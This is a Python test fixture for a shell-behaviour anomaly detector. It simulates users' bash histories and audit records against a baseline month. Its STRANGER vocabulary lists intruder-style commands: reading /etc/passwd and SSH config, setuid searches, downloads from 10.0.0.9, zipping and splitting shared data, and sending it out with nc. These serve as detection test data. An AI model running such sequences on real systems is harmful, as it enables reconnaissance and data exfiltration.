"""A small organisation of people with habits at the shell, as histories and audits tell of them."""

import io
from collections.abc import Callable, Iterator, Sequence
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import numpy as np
import pyarrow as pa

from analytics.behaviour import commands
from analytics.event import Context
from analytics.findings import Finding
from analytics.identity import Directory
from analytics.identity.accounts import Link, Use
from analytics.identity.people import Person
from analytics.site import Site
from analytics.sources import auditd, bash_history
from analytics.store import open_store
from analytics.store.base import EventStore

PEOPLE, DAYS, A_DAY = 14, 26, 40
TODAY = date(2026, 3, 27)
FIRST = TODAY - timedelta(days=DAYS)
EVERYBODY = "ls|ls -la|cd ..|git status|git pull|vim notes.md|squeue -u me|exit|pwd|cat out.log"
VARIED = """\
git log --oneline|git diff HEAD~1|git push origin main|git commit -am wip|make -j8
make test|python train.py --lr 0.1|python eval.py|python -m pytest -x|sbatch run.sh
scancel 991|sinfo -N -l|tail -f out.log|less out.log|grep -rn loss src/|rg loss
fd -e py|find . -name *.py|du -sh *|df -h|nvidia-smi -l 1|htop|tmux attach -t a
tmux new -s b|ssh gpu03|rsync -av a/ gpu03:b/|scp a.pt gpu04:|tar -xzf a.tgz
docker ps -a|kubectl get pods -A|kubectl logs -f pod|conda activate t
pip install -e .|jupyter lab --no-browser|wandb sync run|emacs -nw a.py|nano b.py
code .|awk -F, {print} a.csv|jq . a.json|sort a.txt|uniq -c b.txt|wc -l a.txt
sed -n 1,9p a.txt|head -n 5 a.csv|chmod +x run.sh|mkdir -p out|mv a b|cp -r a b
rm -rf out|ln -s a b|watch squeue|history|which python|env|ps aux|kill 4711
curl -s localhost:8000"""
STRANGER = """\
id -a|uname -a|cat /etc/passwd|sudo -l|find / -perm -4000|netstat -tulpn|arp -n|w -h
last -n 20|getent passwd|cat /etc/hosts|lsblk -f|mount -l|dmesg -T|crontab -l
cat ~/.ssh/config|base64 -d /tmp/a|xxd /tmp/a|openssl enc -d -in a|python -c 1
curl -o /tmp/x http://10.0.0.9/x|wget -q http://10.0.0.9/y
zip -r /tmp/b.zip /shared/data|split -b 10M /tmp/b.zip|nc -w 3 10.0.0.9 443
gcc -o /tmp/x x.c|strings /tmp/x"""

Lines = list[str]
Story = Callable[[int, Lines], Lines]


def vocabulary(text: str) -> Lines:
    """The command lines of a text."""
    return [line for row in text.splitlines() for line in row.split("|")]


def day_of(person: int, day: date) -> Lines:
    """What somebody types on a day, mostly the fifteen commands that are their own habit."""
    liked = np.random.default_rng(person).permutation(vocabulary(VARIED))[:15]
    chance = np.random.default_rng([person, day.toordinal()])
    pools = (vocabulary(EVERYBODY), liked, vocabulary(VARIED))
    kinds = chance.choice(3, A_DAY, p=(0.35, 0.57, 0.08))
    return [str(chance.choice(pools[kind])) for kind in kinds]


def login(person: int) -> str:
    """The account's name."""
    return f"u{person}"


def history(person: int, days: Sequence[tuple[date, Lines]]) -> pa.Table:
    """The events of somebody's bash history."""
    text = "".join(
        f"#{int(moment.timestamp())}\n{line}\n"
        for day, lines in days
        for moment, line in zip(_moments(day), lines, strict=False)
    )
    return _parsed(bash_history.SOURCE, text, login(person))


def audit(person: int, days: Sequence[tuple[date, Lines]]) -> pa.Table:
    """The events of what the audit saw somebody start at a terminal."""
    return _parsed(auditd.SOURCE, "".join(_records(person, days)), None)


def _records(person: int, days: Sequence[tuple[date, Lines]]) -> Iterator[str]:
    uid = 1000 + person
    for day, lines in days:
        for number, (moment, line) in enumerate(zip(_moments(day), lines, strict=False)):
            words = line.split()
            stamp = f"msg=audit({moment.timestamp():.3f}:{day.toordinal() * 1000 + number})"
            ids = f"auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid}"
            values = " ".join(f'a{at}="{word}"' for at, word in enumerate(words))
            yield (
                f"type=SYSCALL {stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 "
                f"a3=4 items=1 ppid=900 pid={5000 + number} {ids} sgid={uid} fsgid={uid} tty=pts1 "
                f'ses=4 comm="{words[0]}" exe="/usr/bin/{words[0]}" key="commands"\n'
                f"type=EXECVE {stamp}: argc={len(words)} {values}\n"
            )


def _moments(day: date) -> Iterator[datetime]:
    begin = datetime(day.year, day.month, day.day, 9, tzinfo=UTC)
    return (begin + timedelta(minutes=2 * number) for number in range(1000))


def _parsed(source: object, text: str, user: str | None) -> pa.Table:
    context = Context(
        feed="f", batch="b", origin=f"o{user}", received=datetime(2026, 4, 1, tzinfo=UTC),
        host="login1", user=user,
    )  # fmt: skip
    batches = source.parse(io.BytesIO(text.encode()), context)  # type: ignore[attr-defined]
    return pa.concat_tables([batch.events for batch in batches])


def site(use: Use = Use.PERSONAL, **more: object) -> Site:
    """All people with their accounts; person 0's are of that use."""
    people = {f"p{n}": Person(id=f"p{n}", name=login(n), team="t", role="r") for n in range(PEOPLE)}
    links = [
        Link(account=account, person=f"p{n}", use=use if n == 0 else Use.PERSONAL)
        for n in range(PEOPLE)
        for account in (f"unix:{login(n)}", f"uid:site/{1000 + n}")
    ]
    return Site(directory=Directory(people=people, links=tuple(links)), **more)  # type: ignore[arg-type]


Written = Callable[[int, Sequence[tuple[date, Lines]]], pa.Table]


def past(folder: Path, written: Written) -> EventStore:
    """A store with the person-days of everybody's usual month before today."""
    days = [FIRST + timedelta(days=number) for number in range(DAYS)]
    days = [day for day in days if day.weekday() < 5]
    told = [written(n, [(day, day_of(n, day)) for day in days]) for n in range(PEOPLE)]
    events = pa.concat_tables(told)
    dates = np.asarray(events["@timestamp"].cast(pa.date32()).cast(pa.int32()))
    store = open_store((folder / "lake").as_uri())
    known = site().directory
    persons = pa.table({"person": sorted(known.people)})
    for day in days:
        of_day = events.filter(pa.array(dates == (day - date(1970, 1, 1)).days))
        store.put_person_days(day, commands.added(persons, of_day, known))
    return store


def found(store: EventStore, story: Story, known: Site, written: Written) -> list[Finding]:
    """What is found today, of which a story tells what each person typed instead of the usual."""
    events = [written(n, [(TODAY, story(n, day_of(n, TODAY)))]) for n in range(PEOPLE)]
    return commands.find(TODAY, pa.concat_tables(events), known, store)
